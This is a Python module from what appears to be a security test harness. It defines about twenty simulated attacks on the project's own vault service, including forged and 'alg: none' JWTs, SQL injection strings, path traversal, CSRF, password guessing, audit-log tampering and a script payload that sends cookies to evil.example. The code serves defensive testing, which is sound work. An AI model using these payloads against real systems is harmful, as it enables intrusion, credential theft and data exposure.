"""Attacks: harmless requests against our own vault, to see which layer stops each, and what happens without it.

An attack is a flow like everything else: it yields requests, is sent the answers, and returns whether it got what it
came for.  A success is an effect: the text that was read, the row that was written, the log that does not show it.
`sim.services.vault.matrix` carries them out.
"""

from __future__ import annotations

import base64
from collections.abc import Callable, Generator, Iterator
from typing import Any, TypeAlias

import attrs

from sim.http import Request, Response, json_body
from sim.policies.security.cors import lets_read, needs_preflight
from sim.policies.security.tokens import TokenKey, sign_token
from sim.services.vault import guarded as kit
from sim.services.vault.guarded import GuardedVault, token
from sim.store import Store

Tampering: TypeAlias = Callable[[Store], None]
AttackFlow: TypeAlias = Generator[Request | Tampering, Any, bool]
"""Yields requests, and is sent the response; or what somebody with the database's password does to the store."""


@attrs.frozen(kw_only=True)
class Attack:
    """One attack.  *how*: in one sentence.  *flow*: what is sent at the instant `now`, and whether it succeeded.

    *found*: what must then be true of the stores as well, None when the answers say it all.  *database*: it needs
    access to the database beside the requests.  *searches*: it is aimed at the search.
    """

    name: str
    how: str
    flow: Callable[[float], AttackFlow]
    found: Callable[[GuardedVault], bool] | None = None
    database: bool = False
    searches: bool = False


def bearing(text: str, *, peer: str = kit.HOME, **headers: str) -> dict[str, Any]:
    """The headers and the address of a request over TLS that bears a token."""
    named = {name.replace("_", "-"): value for name, value in headers.items()}
    return {"headers": {":scheme": "https", "Authorization": f"Bearer {text}", **named}, "peer": peer}


def _reads(request: Request, secret: str) -> AttackFlow:
    response: Response = yield request
    return response.status == 200 and secret.encode() in response.body


def _document(text: str, **more: str) -> AttackFlow:
    return _reads(Request("GET", "/documents/1", **bearing(text, peer=kit.AWAY, **more)), _PAY)


_PAY, _TLS = "61,000", {":scheme": "https"}
_JSON = {"Content-Type": "application/json"}


def _plain_http(now: float) -> AttackFlow:
    sent = bearing(token("alice", now=now)) | {}
    return _reads(Request("GET", "/documents/1", headers={**sent["headers"], ":scheme": "http"}, peer=kit.HOME), _PAY)


def _stolen_key(now: float) -> AttackFlow:
    headers = {**_TLS, "X-API-Key": kit.BILLING_KEY}
    return _reads(Request("GET", "/documents/3", headers=headers, peer=kit.AWAY), "Nine hundred")


def _key_in_url(now: float) -> AttackFlow:
    return _reads(
        Request("GET", f"/documents/3?api_key={kit.BILLING_KEY}", headers=_TLS, peer=kit.OFFICE), "Nine hundred"
    )


def _forged(now: float) -> AttackFlow:
    claims = {"iss": kit.TOKENS.issuer, "aud": kit.TOKENS.audience, "sub": "alice", "exp": now + 60}
    claims["scope"] = " ".join(sorted(kit.SCOPES))
    return _document(sign_token(claims, TokenKey(secret=b"a key that the attacker has made up"), kid="2026"))


def _unsigned(now: float) -> AttackFlow:
    claims = token("alice", now=now).split(".")[1]
    return _document(f"{_part({'alg': 'none', 'kid': '2026'})}.{claims}.")


def _confused(now: float) -> AttackFlow:
    claims = {"iss": kit.TOKENS.issuer, "aud": kit.TOKENS.audience, "sub": "alice", "exp": now + 60}
    claims["scope"] = " ".join(sorted(kit.SCOPES))
    return _document(sign_token(claims, TokenKey(secret=kit.TOKENS.keys["rsa"].secret), kid="rsa"))


def _missing_scope(now: float) -> AttackFlow:
    reader = token("alice", now=now, scopes=frozenset({"documents:read"}))
    body = json_body({"title": "Written by an app that may read", "text": "x"})
    response: Response = yield Request("POST", "/documents", body=body, **bearing(reader, **_JSON))
    return response.status == 201


def _insider(now: float) -> AttackFlow:
    said = f"{_part({'alg': 'none'})}.{_part({'sub': 'alice', 'scope': ' '.join(sorted(kit.SCOPES))})}."
    return _reads(Request("GET", "/documents/1", headers={"X-Caller": said}, peer=kit.INSIDE), _PAY)


def _role_in_body(now: float) -> AttackFlow:
    mine = token("mallory", now=now)
    body = json_body({"email": "m@vault.example", "role": "auditor"})
    changed: Response = yield Request("PATCH", "/accounts/mallory", body=body, **bearing(mine, **_JSON))
    response: Response = yield Request("GET", "/audit", **bearing(mine))
    return (changed.status, response.status) == (204, 200)


def _foreign_page_reads(now: float) -> AttackFlow:
    headers = {**_TLS, "Cookie": f"session={token('alice', now=now)}", "Origin": "https://evil.example"}
    request = Request("GET", "/documents/1", headers=headers, peer=kit.HOME)
    assert not needs_preflight(request)  # so alice's browser sends it at once, with her cookie
    response: Response = yield request
    return lets_read(response, "https://evil.example", True) and _PAY.encode() in response.body


def _foreign_form_writes(now: float) -> AttackFlow:
    headers = {**_TLS, "Cookie": f"session={token('alice', now=now)}", "Origin": "https://evil.example"}
    body = json_body({"title": "Written by a form elsewhere", "text": "x"})
    request = Request("POST", "/documents", headers={**headers, "Content-Type": "text/plain"}, body=body, peer=kit.HOME)
    assert not needs_preflight(request)
    response: Response = yield request
    return response.status == 201


def _sql_in_words(now: float) -> AttackFlow:
    path = "/search?q=%25'+OR+owner+%3C%3E+'mallory'+--"
    return _reads(Request("GET", path, **bearing(token("mallory", now=now))), "Payroll")


def _sql_in_number(now: float) -> AttackFlow:
    return _reads(Request("GET", "/search?q=&year=2026+OR+1%3D1", **bearing(token("mallory", now=now))), "Payroll")


def _script_in_text(now: float) -> AttackFlow:
    return _script(now, {"title": "Harmless", "text": f"look {_SCRIPT}", "shared_with": "alice"})


def _script_in_title(now: float) -> AttackFlow:
    return _script(now, {"title": f"look {_SCRIPT}", "text": "x", "shared_with": "alice"})


_SCRIPT = "<script>fetch('https://evil.example/?'+document.cookie)</script>"


def _script(now: float, document: dict[str, str]) -> AttackFlow:
    made = yield Request("POST", "/documents", body=json_body(document), **bearing(token("mallory", now=now), **_JSON))
    if made.status != 201:
        return False
    page = yield Request("GET", f"/documents/{made.json()['id']}/page", **bearing(token("alice", now=now)))
    return page.status == 200 and _SCRIPT.encode() in page.body


def _guessing(now: float) -> AttackFlow:
    for word in COMMON_PASSWORDS:
        body = json_body({"account": "bob", "password": word})
        response: Response = yield Request("POST", "/sessions", headers={**_TLS, **_JSON}, body=body, peer=kit.AWAY)
        if response.status == 201:
            return True
    return False


COMMON_PASSWORDS = (
    "123456", "password", "12345678", "qwerty", "abc123", "111111", "letmein", "monkey", "iloveyou", "trustno1",
    "dragon", "sunshine",
)  # fmt: skip
"""What a guesser tries, the most common first; bob's is among them."""


def _tampering(now: float) -> AttackFlow:
    body = json_body({"title": "What nobody is to know of", "text": "x"})
    yield Request("POST", "/documents", body=body, **bearing(token("mallory", now=now), **_JSON))
    yield _remove_traces
    response: Response = yield Request("GET", "/audit", **bearing(token("audrey", now=now)))
    report = response.json()
    return (
        response.status == 200 and not report["findings"] and not any(row["who"] == "mallory" for row in report["rows"])
    )


def _remove_traces(store: Store) -> None:
    for key, row in store.rows("audit"):
        if row["who"] == "mallory":
            store.delete("audit", key)
    store.delete("audit head", "head")


def _part(document: Any) -> str:
    return base64.urlsafe_b64encode(json_body(document)).rstrip(b"=").decode()


def _wrote(title: str) -> Callable[[GuardedVault], bool]:
    return lambda world: any(document.get("title") == title for _, document in world.store.rows("documents"))


def _all() -> Iterator[Attack]:
    yield Attack(
        name="plain http",
        how="A client forgets the s, and whoever listens reads the answer.",
        flow=_plain_http,
    )
    yield Attack(name="stolen key", how="An API key is used from another address than its owner's.", flow=_stolen_key)
    yield Attack(name="key in the URL", how="A key stands where every log on the way keeps it.", flow=_key_in_url)
    yield Attack(
        name="expired token",
        how="A token from an old log is sent again.",
        flow=lambda now: _document(token("alice", now=now - 7_200.0)),
    )
    yield Attack(name="forged token", how="The attacker signs with a key of his own.", flow=_forged)
    yield Attack(name="unsigned token", how="The token says `alg: none` and has no signature.", flow=_unsigned)
    yield Attack(name="confused token", how="The public key, which everybody has, signs as a secret.", flow=_confused)
    yield Attack(
        name="token for another",
        how="A good token that was made for another service is passed on to this one.",
        flow=lambda now: _document(token("alice", now=now, aud="https://shop.example")),
    )
    yield Attack(
        name="missing scope",
        how="An app with leave to read writes in its user's name.",
        flow=_missing_scope,
        found=_wrote("Written by an app that may read"),
    )
    yield Attack(
        name="another's document",
        how="A member who is logged in asks for the next number (IDOR).",
        flow=lambda now: _document(token("mallory", now=now)),
    )
    yield Attack(name="insider", how="A call from inside says whom it is for, and nobody vouches.", flow=_insider)
    yield Attack(
        name="internal page",
        how="A page for colleagues is asked for from outside.",
        flow=lambda now: _reads(
            Request("GET", "/internal/config", **bearing(token("mallory", now=now))), "not for everyone"
        ),
    )
    yield Attack(
        name="role in the body",
        how="A member changes his email, and his role with it (mass assignment).",
        flow=_role_in_body,
        found=lambda world: world.store.get("accounts", "mallory")["role"] == "auditor",
    )
    yield Attack(
        name="foreign page reads", how="A page elsewhere reads with its visitor's cookie.", flow=_foreign_page_reads
    )
    yield Attack(
        name="foreign form writes",
        how="A form elsewhere sends text that is JSON, with its visitor's cookie (CSRF).",
        flow=_foreign_form_writes,
        found=_wrote("Written by a form elsewhere"),
    )
    yield Attack(name="SQL in the words", how="A quote ends the text.", flow=_sql_in_words, searches=True)
    yield Attack(name="SQL in a number", how="A number goes on with OR.", flow=_sql_in_number, searches=True)
    yield Attack(
        name="path traversal",
        how="A file's name leads out of its folder.",
        flow=lambda now: _reads(
            Request("GET", "/files/..%2Fprivate%2Fpayroll.csv", **bearing(token("mallory", now=now))), "61000"
        ),
    )
    yield Attack(name="script in a text", how="A text with a script in it is shown to another.", flow=_script_in_text)
    yield Attack(name="script in a title", how="The same in a field that has no use for it.", flow=_script_in_title)
    yield Attack(name="password guessing", how="The common passwords are tried one by one.", flow=_guessing)
    yield Attack(
        name="tampering", how="Somebody with the database removes his row from the log.", flow=_tampering, database=True
    )


ATTACKS = tuple(_all())
"""All attacks, in the order of the layers that they are aimed at."""
